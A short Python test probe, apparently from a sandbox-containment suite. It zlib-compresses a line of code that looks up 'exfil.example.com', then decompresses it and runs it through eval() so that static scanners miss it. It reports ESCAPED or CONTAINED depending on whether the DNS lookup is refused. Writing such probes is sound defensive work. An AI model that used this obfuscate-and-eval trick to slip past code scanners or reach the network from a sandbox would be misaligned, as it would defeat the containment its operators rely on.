"""Static evasion: zlib-compressed source, compiled and run through eval()."""
import zlib

BLOB = zlib.compress(
    b"__import__('socket').getaddrinfo('exfil.example.com', 53)"
)
print("ATTEMPT zlib-eval", flush=True)
try:
    eval(compile(zlib.decompress(BLOB).decode(), "<blob>", "eval"))
    print("ESC" "APED DNS lookup from a compressed payload", flush=True)
except OSError as e:
    print("CONTAINED zlib payload ran, DNS refused:", e, flush=True)
